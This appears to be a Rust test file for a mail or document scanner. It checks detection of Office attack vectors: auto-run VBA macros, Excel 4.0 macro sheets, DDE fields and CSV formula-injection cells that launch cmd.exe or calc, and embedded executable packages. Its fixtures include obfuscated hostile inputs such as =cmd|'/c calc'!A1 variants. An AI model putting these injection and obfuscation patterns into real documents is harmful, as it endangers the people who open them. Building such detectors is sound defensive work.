//! Office documents: VBA, Excel 4.0, Basic, DDE, packages, controls, templates, RTF.

use super::{deeds, facts, inside, letter, native, ole, ooxml, program, project, wide};
use crate::support::base64;
use crate::support::gate::{Gate, judge};
use congthu::verdict::Action;

#[track_caller]
pub fn does(name: &str, bytes: &[u8], expected: &[&str]) {
    let path = format!("2/{name}");
    let expected: Vec<String> = expected
        .iter()
        .map(|word| match word.split_once('@') {
            Some((word, inside)) => format!("{word}@{path}/{inside}"),
            None => format!("{word}@2"),
        })
        .collect();
    assert_eq!(deeds(name, bytes), expected, "{name}");
}

#[test]
fn vba_is_told_apart_by_what_it_does() {
    for (source, compiled, word) in [
        ("Sub Tong()\r\nRange(\"A1\") = 1\r\nEnd Sub\r\n", b"Tong".as_slice(), "macro"),
        ("Option Explicit\r\n", b"", "empty"),
        ("Private Sub Workbook_Open()\r\nMsgBox 1\r\nEnd Sub\r\n", b"", "auto"),
        ("Sub AutoOpen()\r\nShell \"calc.exe\"\r\nEnd Sub\r\n", b"", "calls"),
        (
            "Sub Document_Open()\r\nSet a = CreateObject(\"WScr\" & \"ipt.Sh\" _\r\n & \"ell\")\r\nEnd Sub",
            b"",
            "calls",
        ),
        ("Sub autoopen()\r\nSet a = CreateObject(Ten(3))\r\nEnd Sub", b"", "calls"),
        ("Sub AutoOpen()\r\n' Shell is not called\r\nMsgBox 1\r\nEnd Sub\r\n", b"", "auto"),
        ("Sub Nut_Click()\r\nShell \"calc.exe\"\r\nEnd Sub\r\n", b"", "macro"),
        // Accountants' workbooks do this every day.
        (
            "Sub Workbook_Open()\r\nSet d = CreateObject(\"Scripting.Dictionary\")\r\nEnd Sub\r\n",
            b"",
            "auto",
        ),
        // The source is gone or says less than the compiled code.
        ("", b"x AutoOpen x Shell x", "hidden"),
        ("Sub Chao()\r\nMsgBox 1\r\nEnd Sub", b"x Document_Open x URLDownloadToFileA", "hidden"),
    ] {
        for (name, below) in [("a.doc", "Macros/"), ("a.xls", "_VBA_PROJECT_CUR/"), ("a.bin", "")] {
            does(name, &project(below, source, compiled), &[word]);
        }
    }
}

#[test]
fn vba_is_found_in_whatever_carries_it() {
    let vba = project("", "Sub AutoOpen()\r\nShell \"calc.exe\"\r\nEnd Sub", b"");
    let docm = ooxml("wordprocessingml.document", &[("word/vbaProject.bin", &vba)]);
    does("a.docx", &docm, &["calls@word/vbaProject.bin"]);
    // Named as something else: the bytes decide.
    let hidden = ooxml("wordprocessingml.document", &[("word/theme/theme1.xml", &vba)]);
    does("a.docx", &hidden, &["calls@word/theme/theme1.xml"]);
    // PowerPoint keeps it packed in a record of its document.
    let mut packed = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    std::io::Write::write_all(&mut packed, &vba).unwrap();
    let packed = packed.finish().unwrap();
    let mut record = b"\x10\0\x11\x10".to_vec();
    record.extend((packed.len() as u32 + 4).to_le_bytes());
    record.extend((vba.len() as u32).to_le_bytes());
    record.extend(&packed);
    does("a.ppt", &ole(&[("PowerPoint Document", &record)]), &["calls@object1.ole"]);
    // ActiveMime, in a page and in XML.
    let mime = [b"ActiveMime".as_slice(), &[0; 0x28], &packed].concat();
    let mso = crate::support::base64(&mime);
    let xml = format!(
        "<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?>\
         <w:wordDocument xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\">\
         <w:docSuppData><w:binData w:name=\"editdata.mso\">{mso}</w:binData></w:docSuppData></w:wordDocument>"
    );
    does("a.xml", xml.as_bytes(), &["calls@editdata.mso/macros.ole"]);
    let page = format!(
        "MIME-Version: 1.0\r\nFrom: a\r\nSubject: a\r\nDate: a\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<html><script>go()</script></html>\r\n--x\r\n\
         Content-Type: application/x-mso\r\nContent-Transfer-Encoding: base64\r\nContent-Location: editdata.mso\r\n\r\n{}\r\n--x--\r\n",
        mso.replace('\n', "\r\n")
    );
    let found = deeds("a.mht", page.as_bytes());
    assert!(found.contains(&"script@2/a.mht/1".to_owned()), "{found:?}");
    assert!(found.iter().any(|word| word.starts_with("calls@2/a.mht/2")), "{found:?}");
    // The same as a letter: a mail program strips the script of its body.
    let found = facts(letter("a.eml", page.as_bytes()));
    let body = found.parts.iter().find(|part| part.path == "2/a.eml/1").unwrap();
    assert_eq!(body.role.name(), "body");
}

/// Records of a workbook.
pub fn records(records: &[(u16, &[u8])]) -> Vec<u8> {
    let record = |(kind, body): &(u16, &[u8])| {
        [&kind.to_le_bytes(), &(body.len() as u16).to_le_bytes(), *body].concat()
    };
    records.iter().flat_map(record).collect()
}

#[test]
fn excel_4_sheets_are_macros() {
    let bof: (u16, &[u8]) = (0x809, &[0, 6, 5, 0, 0, 0, 0, 0]);
    let sheet: (u16, &[u8]) = (0x85, b"\0\0\0\0\0\0\x05\0Sheet");
    let macros: (u16, &[u8]) = (0x85, b"\0\0\0\0\0\x01\x05\0Macro");
    let hidden: (u16, &[u8]) = (0x85, b"\0\0\0\0\x02\x01\x05\0Macro");
    let auto: (u16, &[u8]) = (0x18, &[0x20, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1]);
    let inside: (u16, &[u8]) = (0x809, &[0, 6, 0x40, 0, 0, 0, 0, 0]);
    let exec: (u16, &[u8]) = (0x06, &[0; 20]);
    let mut formula = [0u8; 26];
    formula[22..].copy_from_slice(&[0x42, 1, 0x6e, 0]);
    let calls: (u16, &[u8]) = (0x06, &formula);
    for (stream, word) in [
        (vec![bof, sheet], None),
        (vec![bof, macros], Some("macro")),
        (vec![bof, macros, auto], Some("auto")),
        (vec![bof, hidden, auto], Some("hidden")),
        (vec![bof, macros, auto, inside, exec], Some("auto")),
        (vec![bof, macros, auto, inside, calls], Some("calls")),
        (vec![bof, sheet, calls], None),
    ] {
        let stream = records(&stream);
        does("a.xls", &ole(&[("Workbook", &stream)]), &Vec::from_iter(word));
    }
    let relations = b"<Relationships><Relationship Id=\"1\" Target=\"sheet9.xml\" \
        Type=\"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet\"/></Relationships>";
    let book = ooxml("spreadsheetml.sheet", &[("xl/_rels/workbook.xml.rels", relations)]);
    does("a.xlsx", &book, &["macro@xl/_rels/workbook.xml.rels"]);
    let sheet = b"<xm:macrosheet><c><f>EXEC(\"calc\")</f></c></xm:macrosheet>";
    let book = ooxml("spreadsheetml.sheet", &[("xl/macrosheets/sheet1.xml", sheet)]);
    does("a.xlsm", &book, &["calls@xl/macrosheets/sheet1.xml"]);
    let link = b"ID;P\nO;E\nNN;NAuto_open;ER1C1\nC;X1;Y1;EEXEC(\"calc\")\nE\n";
    does("a.txt", link, &["calls"]);
}

#[test]
fn dde_with_an_office_program_is_no_command_line() {
    let document = |body: &str| {
        let xml = format!("<w:document xmlns:w=\"x\"><w:body>{body}</w:body></w:document>");
        ooxml("wordprocessingml.document", &[("word/document.xml", xml.as_bytes())])
    };
    let field = |pieces: &[&str]| {
        let runs: String = pieces
            .iter()
            .map(|piece| format!("<w:r><w:instrText>{piece}</w:instrText></w:r>"))
            .collect();
        format!(
            "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>{runs}<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>\
             <w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
        )
    };
    let quote = format!("{} excel a", field(&["QUOTE 68 68 69"]));
    for (body, word) in [
        (field(&[" PAGE "]), None),
        (field(&["HYPERLINK \"https://mail.example/\""]), None),
        (field(&["INCLUDEPICTURE \"https://mail.example/a.png\""]), None),
        (field(&["DDEAUTO excel \"C:\\\\so.xls\" R1C1"]), Some("dde")),
        (field(&["DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\""]), Some("launch")),
        (field(&["DD", "EAU", "TO cmd", " \"/c calc\""]), Some("launch")),
        (field(&["D&#68;E cmd \"/c calc\""]), Some("launch")),
        (field(&["DDE excel \"..\\\\..\\\\windows\\\\system32\\\\cmd.exe\" a"]), Some("launch")),
        ("<w:fldSimple w:instr=\"DDE cmd &quot;/c&quot;\"/>".to_owned(), Some("launch")),
        (field(&["INCLUDETEXT \"https://mail.example/a.docx\""]), Some("remote")),
        (field(&["LINK htmlfile https://mail.example/a.hta"]), Some("template")),
        (
            field(&[&quote])
                .replace("<w:instrText><w:r>", "<w:r>")
                .replace("</w:r> excel", "</w:r><w:r><w:instrText> cmd"),
            Some("launch"),
        ),
    ] {
        let expected = word.map(|word| format!("{word}@word/document.xml"));
        does("a.docx", &document(&body), &Vec::from_iter(expected.as_deref()));
    }
    let eight = ole(&[(
        "WordDocument",
        b"\xec\xa5\xc1\0head of the file \x13 DDEAUTO cmd \"/c calc\" \x14 x\x15",
    )]);
    does("a.doc", &eight, &["launch"]);
    let sixteen = [
        b"\xec\xa5\xc1\0head of file".as_slice(),
        &wide("\u{13}DDEAUTO cmd \"/c calc\"\u{14}x\u{15}"),
    ]
    .concat();
    does("a.doc", &ole(&[("WordDocument", &sixteen)]), &["launch"]);
    let link = b"<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>";
    let book = ooxml("spreadsheetml.sheet", &[("xl/externalLinks/externalLink1.xml", link)]);
    does("a.xlsx", &book, &["launch@xl/externalLinks/externalLink1.xml"]);
    let supbook = [b"\x01\0\x0b\0\0".as_slice(), b"cmd\x03/c calc"].concat();
    let path = [b"\x01\0\x0b\0\0".as_slice(), b"\x01so\x03a.xls"].concat();
    let bof: (u16, &[u8]) = (0x809, &[0, 6, 5, 0, 0, 0, 0, 0]);
    does("a.xls", &ole(&[("Workbook", &records(&[bof, (0x1ae, &supbook)]))]), &["launch"]);
    does("a.xls", &ole(&[("Workbook", &records(&[bof, (0x1ae, &path)]))]), &[]);
}

#[test]
fn cells_of_text_tables_are_judged_for_dde_alone() {
    for (cell, word) in [
        ("=SUM(A1:A9)", None),
        ("-12", None),
        ("@vanthu|phòng", None),
        ("=A1|B2", None),
        ("=cmd|'/c calc'!A1", Some("launch")),
        ("\"=cmd|'/c calc'!A1\"", Some("launch")),
        ("+1+cmd|' /c calc'!A", Some("launch")),
        ("@SUM(1)*cmd|'/c calc'!A1", Some("launch")),
        ("=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''", Some("launch")),
        ("=IF(1;\"x\";cmd|'/c calc'!A1)", Some("launch")),
        ("=  cmd  |  '/c calc'!A1", Some("launch")),
        ("Vanthu|'a'!", None),
        ("=excel|'so.xls'!R1C1", Some("dde")),
        ("=cmd|&#39;/c calc&#39;!A1", Some("launch")),
        ("=cmd&#x7c;'/c calc'!A1", Some("launch")),
        ("=cmd&verbar;'/c calc'!A1", Some("launch")),
        ("=c\0md|\0'/c calc'!A1", Some("launch")),
        ("='cmd'|'/c calc'!A1", Some("launch")),
        ("=calc|a!A1", Some("launch")),
        ("=a|b!", None),
        ("=a|b c!A1", None),
        (&format!("=cmd|'/c {}'!A1", "a".repeat(600)), Some("launch")),
    ] {
        let table = format!("Họ tên,Số\r\nAn,{cell}\r\nBình,2\r\n");
        let expected: Vec<String> = word.iter().map(|word| format!("{word}@2")).collect();
        assert_eq!(deeds("a.csv", table.as_bytes()), expected, "{cell:?}");
        assert_eq!(deeds("a.txt", table.as_bytes()), Vec::<String>::new());
    }
}

#[test]
fn packed_files_are_members() {
    let package = native("hóa đơn.exe", &program());
    for (name, document, below) in [
        (
            "a.doc",
            ole(&[("ObjectPool/_1/\u{1}Ole10Native", &package), ("WordDocument", b"\xec\xa5")]),
            "",
        ),
        (
            "a.docx",
            ooxml(
                "wordprocessingml.document",
                &[("word/embeddings/oleObject1.bin", &ole(&[("\u{1}Ole10Native", &package)]))],
            ),
            "word/embeddings/oleObject1.bin/",
        ),
        ("a.rtf", rtf(&object(b"Package", &package[4..])), ""),
        // Digits torn apart, as only attackers write them.
        (
            "a.rtf",
            rtf(&object(b"Package", &package[4..]).replace("02", "0{\\*\\x 77}\\par\n2")),
            "",
        ),
    ] {
        let member = format!("2/{name}/{below}hóa đơn.exe");
        assert!(inside(name, &document).contains(&member), "{:?}", inside(name, &document));
        assert!(deeds(name, &document).iter().any(|word| word.starts_with("package@")));
        let gate = Gate::with_builtin_rules();
        assert_eq!(judge(&gate, "base", &letter(name, &document)).action, Action::Reject);
    }
    let workbook = ooxml("spreadsheetml.sheet", &[("xl/workbook.xml", b"<workbook/>")]);
    let document = ole(&[("ObjectPool/_1/Package", &workbook), ("WordDocument", b"\xec\xa5")]);
    let facts = facts(letter("a.doc", &document));
    let part = facts.parts.iter().find(|part| part.detected.extension == "xlsx").unwrap();
    assert_eq!(part.role.name(), "component", "no person sees it as a file");
}

/// The content of an object of RTF (MS-OLEDS 2.2.5), in digits.
pub fn object(class: &[u8], data: &[u8]) -> String {
    let mut bytes = b"\x01\x05\0\0\x02\0\0\0".to_vec();
    bytes.extend((class.len() as u32 + 1).to_le_bytes());
    bytes.extend([class, b"\0\0\0\0\0\0\0\0\0"].concat());
    bytes.extend((data.len() as u32).to_le_bytes());
    bytes.extend(data);
    bytes.iter().map(|byte| format!("{byte:02x}")).collect()
}

pub fn rtf(digits: &str) -> Vec<u8> {
    format!("{{\\rtf1 a{{\\object\\objemb{{\\*\\objdata {digits}}}}}b}}").into_bytes()
}

#[test]
fn a_text_that_is_named_as_a_workbook_is_a_table() {
    let page = b"<html><table><tr><td>=cmd|'/c echo'!A1</td></tr></table></html>";
    does("a.xls", page, &["launch"]);
    does("a.html", page, &[]);
    for name in ["a.xls", "a.xlt", "a.xlsx"] {
        assert_ne!(deeds(name, b"a\t=cmd|'/c echo'!A1\n"), Vec::<String>::new(), "{name}");
        assert_eq!(deeds(name, b"a\t=1|2\n"), Vec::<String>::new(), "{name}");
    }
}

#[test]
fn a_saved_page_behind_something_else_is_read() {
    let page = format!(
        "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\n\
         Content-Location: a.exe\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n--b--\r\n",
        base64(&program())
    );
    for front in ["%PDF-1.7\n1 0 obj\n<<>>\nendobj\n", "junk\r\n", "{\\rtf1 a}\r\n", "GIF89a\n"] {
        let file = [front, &page].concat();
        let found = facts(letter("a.doc", file.as_bytes()));
        let program = found.parts.iter().any(|part| part.detected.extension == "exe");
        assert!(program, "{front}");
        let page = found.parts.iter().find(|part| part.path == "2/a.doc/page.mht").unwrap();
        assert!(!page.listed, "{front}: the list judges what the page stands in");
    }
}

#[test]
fn a_document_is_read_however_its_parts_are_named() {
    let field = "<w:document><w:fldSimple w:instr=\"DDE cmd &quot;/c&quot;\"/></w:document>";
    let wide = wide(&format!("\u{feff}{field}"));
    for (name, content) in [
        ("word/document.dat", field.as_bytes()),
        ("word/document.bin", format!("<!--x-->{field}").as_bytes()),
        ("word/media/image1.png", format!("\u{feff} \r\n{field}").as_bytes()),
        ("word/document", &wide),
    ] {
        let file = ooxml("wordprocessingml.document", &[(name, content)]);
        does("a.docx", &file, &[&format!("launch@{name}")]);
    }
}

#[test]
fn a_component_is_what_its_elements_say_wherever_it_stands() {
    let connection = |target: &str| {
        format!(
            "<connections><connection refreshOnLoad=\"1\"><dbPr connection=\"{target}\"/></connection></connections>"
        )
    };
    for (xml, word) in [
        ("<macrosheet><c><f>EXEC(\"calc\")</f></c></macrosheet>".to_owned(), Some("calls")),
        ("<macrosheet><c><f>EXE&#67;(\"calc\")</f></c></macrosheet>".to_owned(), Some("calls")),
        ("<a:macrosheet xmlns:a=\"x\"/>".to_owned(), Some("macro")),
        (
            "<workbook><definedName name=\"_xlnm.Auto_Open\">a</definedName></workbook>".to_owned(),
            Some("auto"),
        ),
        (
            "<workbook><definedName name=\"AUTO_OPEN\">a</definedName></workbook>".to_owned(),
            Some("auto"),
        ),
        (
            "<workbook><definedName name=\"_xlnm.Print_Area\">a</definedName></workbook>"
                .to_owned(),
            None,
        ),
        (
            "<ax:ocx xmlns:ax=\"x\" ax:classid=\"{00000000-1111-2222-3333-444444444444}\"/>"
                .to_owned(),
            Some("control"),
        ),
        ("<customUI onLoad=\"https://mail.example/a.dotm!a\"/>".to_owned(), Some("template")),
        (
            "<worksheet><c><f>WEBSERVICE(\"https://mail.example\")</f></c></worksheet>".to_owned(),
            Some("remote"),
        ),
        (
            "<worksheet><c><f>WEBSERVIC&#69;(\"https://mail.example\")</f></c></worksheet>"
                .to_owned(),
            Some("remote"),
        ),
        (connection("DRIVER={x};SERVER=mail.example"), Some("remote")),
        (connection("Provider=x;Data Source=\\\\mail.example\\a"), Some("remote")),
        (connection("Provider=x;Data Source=C:\\so.accdb"), None),
        (
            connection("Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$;Location=a"),
            Some("remote"),
        ),
        (connection("Provider=x;Data Source=(local)"), None),
    ] {
        let book = ooxml("spreadsheetml.sheet", &[("xl/a/b.xml", xml.as_bytes())]);
        let expected = word.map(|word| format!("{word}@xl/a/b.xml"));
        does("a.xlsx", &book, &Vec::from_iter(expected.as_deref()));
    }
}
